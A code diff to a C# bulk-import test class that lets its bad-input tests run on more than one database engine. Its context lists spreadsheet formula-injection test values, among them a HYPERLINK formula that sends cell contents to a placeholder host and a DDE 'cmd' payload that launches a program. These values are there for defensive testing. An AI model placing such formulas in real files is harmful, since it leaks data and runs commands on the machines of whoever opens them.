@@ -12,11 +12,24 @@ using Microsoft.EntityFrameworkCore;
 using Microsoft.Extensions.DependencyInjection;
 using MudBlazor.Services;
 
+using BulkImport.Tests.Support;
+
 namespace BulkImport.Tests.BadInputs;
 
 /// <summary>BAD-INPUTS.md cases 36-47: the values in the cells, and the file as a whole against earlier imports.</summary>
-public sealed class FieldValueBadInputTests : BadInputApiTest
+public class FieldValueBadInputTests : BadInputApiTest
 {
+    public FieldValueBadInputTests()
+        : this(TestEngine.Sqlite)
+    {
+    }
+
+    /// <summary>The same tests on another engine.</summary>
+    protected FieldValueBadInputTests(TestEngine engine)
+        : base(engine: engine)
+    {
+    }
+
     private static readonly string[] FormulaCells =
         ["=HYPERLINK(\"http://x?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "=1+2\";=1+2", "=cmd|' /C calc'!A0"];
 
